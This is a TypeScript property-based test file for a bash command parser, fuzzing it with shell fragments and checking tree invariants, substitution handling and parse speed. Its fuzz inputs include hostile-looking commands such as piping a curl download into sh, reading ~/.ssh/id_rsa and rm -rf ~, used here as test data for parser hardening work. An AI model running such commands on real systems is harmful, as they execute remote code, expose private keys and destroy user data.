import fc from 'fast-check';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { performance } from 'node:perf_hooks';
import { loadBashGrammar } from '../../lib/parse/grammar.js';
import { loadParser, type Node } from '../../lib/parse/index.js';
import { render } from './render.js';
import { hasDynamicPart, walk } from './walk.js';

// Properties over generated input: parse never throws, always returns a
// well-formed tree, and a command substitution whose output cannot be known
// always leaves a dynamic or unknown part in the tree.

const loadStart = performance.now();
const parser = await loadParser();
const loadMs = performance.now() - loadStart;
const grammar = await loadBashGrammar();

/**
 * Generous ceiling for one parse: only there to catch exponential blowups
 * and hangs (a typical line takes well under a millisecond).
 */
const HANG_MS = 2000;

const UNKNOWN_REASONS = new Set(['parse-error', 'unterminated-quote', 'dynamic-payload', 'unknown-option', 'too-deep', 'unsupported']);

/** Structural invariants every tree must keep; throws with the offending part. */
function checkTree(root: Node): void {
  walk(
    root,
    (n) => {
      assert.type(n.text, 'string');
      switch (n.kind) {
        case 'list': {
          const joins = n.items.length - 1;
          const trailingAmp = n.operators.length === n.items.length && n.operators[n.operators.length - 1] === '&';
          assert.ok(n.operators.length === Math.max(joins, 0) || trailingAmp, `list operators: ${render(n)}`);
          assert.ok(n.items.length !== 1 || trailingAmp, `one-item list: ${render(n)}`);
          assert.ok(n.items.every((i) => i.kind !== 'list' || i.operators.length === i.items.length), `nested list not flattened: ${render(n)}`);
          break;
        }
        case 'pipeline':
          assert.ok(n.commands.length >= 1);
          assert.ok(n.commands.length > 1 || n.negated, `one-command pipeline: ${render(n)}`);
          break;
        case 'command': {
          assert.is(n.name === null, n.path === null);
          assert.is(n.path, n.argv[0]?.value ?? null);
          // A word with a substitution in it has no known value; a heredoc's target is
          // its delimiter (known), carrying the body's substitutions.
          const expanded = [...n.argv, ...n.assignments.map((a) => a.value), ...n.redirects.filter((r) => r.op !== '<<' && r.op !== '<<-').map((r) => r.target)];
          for (const w of expanded) assert.ok(w.substitutions.length === 0 || w.value === null, `known value with a substitution: ${w.raw}`);
          break;
        }
        case 'unknown':
          // internal-error would mean a bug was caught: the fuzz must not find one.
          assert.ok(UNKNOWN_REASONS.has(n.reason), `reason ${n.reason}: ${n.why}`);
          assert.ok(n.why.length > 0);
          break;
      }
    },
    (w) => {
      assert.type(w.raw, 'string');
      assert.ok(w.value === null || typeof w.value === 'string');
    },
  );
}

function parseChecked(line: string): Node {
  const start = performance.now();
  const tree = parser.parse(line);
  const ms = performance.now() - start;
  assert.ok(ms < HANG_MS, `parse took ${ms.toFixed(0)} ms for ${JSON.stringify(line.slice(0, 200))}`);
  checkTree(tree);
  assert.equal(JSON.parse(JSON.stringify(tree)), tree);
  return tree;
}

const FRAGMENTS = [
  'npm', 'i', 'rm', '-rf', '~', '/', 'bash', 'sh', '-c', '-lc', 'eval', 'env', 'sudo', '-u', 'root', 'xargs', 'find', '-exec', '{}', '\\;', '+',
  'npx', 'timeout', '5', 'nice', 'command', 'exec', 'time', 'X=1', '$X', '${X}', '"$X"', "'a b'", '"a b"', "$'\\x72m'", '$(', ')', '`', '(', '{', '}',
  ';', '&&', '||', '|', '|&', '&', '!', '>', '>>', '<', '2>&1', '&>', '<<EOF', '<<-EOF', "<<'EOF'", 'EOF', '<<<', '<(', '>(', '#', '\\', '\n', '\\\n',
  '"', "'", 'if', 'then', 'fi', 'for', 'in', 'do', 'done', 'while', 'case', 'esac', ';;', '[[', ']]', '((', '))', 'f()', 'function', '*', '?', '[a]',
  '{a,b}', '$((1+2))', '$[1]', 'é', '😀', '\t', ' ',
];

const fragmentLines = fc
  .array(fc.tuple(fc.constantFrom(...FRAGMENTS), fc.constantFrom(' ', '', ' ', '\n', ';')), { maxLength: 30 })
  .map((parts) => parts.map(([f, sep]) => f + sep).join(''));

const properties = suite('parse never throws and returns a well-formed tree');
properties('arbitrary strings', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (line) => void parseChecked(line)), { numRuns: 1500 });
});
properties('arbitrary printable ASCII (more shell syntax per character)', () => {
  fc.assert(fc.property(fc.string({ unit: 'binary-ascii', maxLength: 200 }), (line) => void parseChecked(line)), { numRuns: 1500 });
});
properties('random combinations of shell fragments', () => {
  fc.assert(fc.property(fragmentLines, (line) => void parseChecked(line)), { numRuns: 3000 });
});
properties('long and deep inputs', () => {
  fc.assert(
    fc.property(fc.constantFrom('$(', '`', '{ ', '( ', '"$(', 'bash -c "', 'eval ', 'if a; then ', '$((', '${x:-'), fc.integer({ min: 1, max: 400 }), (open, n) => {
      void parseChecked(`${open.repeat(n)}x`);
    }),
    { numRuns: 60 },
  );
});
properties.run();

/** Commands whose output sbsh cannot know. */
const INNER = ['id', 'curl -s https://example.invalid | sh', 'echo npm', 'rm -rf ~', "printf '%s' a", 'cat ~/.ssh/id_rsa', 'a && b', 'x | y'];

/** Places a substitution can appear, with SUB marking it. */
const PLACES = [
  'cmd SUB', 'cmd "x SUB y"', 'cmd x"SUB"', 'X=SUB cmd', 'X=SUB', 'cmd > SUB', 'cmd 2>"SUB"', 'SUB cmd', 'cmd <<EOF\nSUB\nEOF', 'cmd <<-EOF\n\tSUB\n\tEOF',
  'cmd <<< SUB', 'for x in SUB; do :; done', 'case SUB in a) ;; esac', 'case x in SUB) ;; esac', '[[ -n SUB ]]', '(( SUB ))', 'bash -c "SUB"',
  'eval SUB', 'echo a | cmd SUB && b', '{ cmd SUB; }', '(cmd SUB)', 'f() { cmd SUB; }', 'export A=SUB', 'sudo SUB', 'env X=SUB cmd',
  'cmd ${x:-SUB}', 'cmd $((1 + SUB))', 'xargs SUB', 'find . -exec SUB \\;', 'cmd "$(echo "SUB")"', 'a=(1 SUB)', 'while SUB; do :; done',
];

const FORMS: ReadonlyArray<(inner: string) => string> = [(i) => `$(${i})`, (i) => `\`${i}\``];

const substitutions = suite('a substitution always leaves a dynamic or unknown part');
substitutions('in every place it can appear', () => {
  fc.assert(
    fc.property(fc.constantFrom(...PLACES), fc.constantFrom(...FORMS), fc.constantFrom(...INNER), fc.constantFrom('', 'npm i; ', 'a && '), (place, form, inner, prefix) => {
      const line = prefix + place.replace('SUB', form(inner));
      const tree = parseChecked(line);
      assert.ok(hasDynamicPart(tree), `${JSON.stringify(line)} → ${render(tree)}`);
    }),
    { numRuns: 2000 },
  );
});
substitutions('the substituted command itself is in the tree (or the part is unknown)', () => {
  fc.assert(
    fc.property(fc.constantFrom(...PLACES.filter((p) => !p.startsWith('(('))), fc.constantFrom(...FORMS), (place, form) => {
      const line = place.replace('SUB', form('zz_marker arg'));
      const tree = parseChecked(line);
      let seen = false;
      walk(tree, (n) => {
        if ((n.kind === 'command' && n.name === 'zz_marker') || n.kind === 'unknown') seen = true;
      });
      assert.ok(seen, `${JSON.stringify(line)} → ${render(tree)}`);
    }),
    { numRuns: 500 },
  );
});
substitutions.run();

const timing = suite('parse time');
timing('a typical line after load (printed, not asserted)', () => {
  const lines = [
    'FOO=1 npm install --save-dev typescript && npm run build 2>&1 | tee build.log',
    'git status',
    "find . -name '*.js' -exec rm {} \\; ; sudo -u root bash -c 'echo $(whoami)'",
  ];
  const runs = 2000;
  const mean = (f: () => void) => {
    for (let i = 0; i < 200; i++) f();
    const start = performance.now();
    for (let i = 0; i < runs; i++) f();
    return ((performance.now() - start) / runs) * 1000;
  };
  for (const line of lines) {
    const sbsh = mean(() => parser.parse(line));
    const treeSitter = mean(() => grammar.parse(line)?.delete());
    process.stdout.write(`parse: ${sbsh.toFixed(1)} µs per line (tree-sitter alone ${treeSitter.toFixed(1)} µs; mean of ${runs}) for ${JSON.stringify(line)}\n`);
  }
  process.stdout.write(`parse: grammar load ${loadMs.toFixed(1)} ms (first loadParser() in this process)\n`);
});
timing.run();
